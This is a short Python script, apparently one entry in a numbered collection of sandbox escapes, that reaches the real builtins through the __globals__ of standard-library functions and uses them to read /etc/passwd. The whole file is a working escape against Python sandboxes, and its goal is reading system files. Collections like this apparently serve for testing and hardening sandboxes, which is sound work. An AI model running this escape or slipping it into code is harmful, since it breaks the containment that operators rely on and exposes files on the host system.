# escape: 083
# technique: __globals__['__builtins__'] of any pure-python stdlib function
# family: globals
# goal: read-file
# first-seen: HackTricks; pysandbox
for n in ('json', 're', 'collections', 'random', 'functools', 'string', 'textwrap', 'heapq', 'copy'):
    try: m = __import__(n)
    except Exception: continue
    for f in list(vars(m).values()):
        g = getattr(f, '__globals__', None)
        if g:
            b = g['__builtins__']; b = b if isinstance(b, dict) else vars(b)
            s = b['open']('/etc/passwd').readline()
            if 'root:' in s: print('ESCAPED:' + n); raise SystemExit
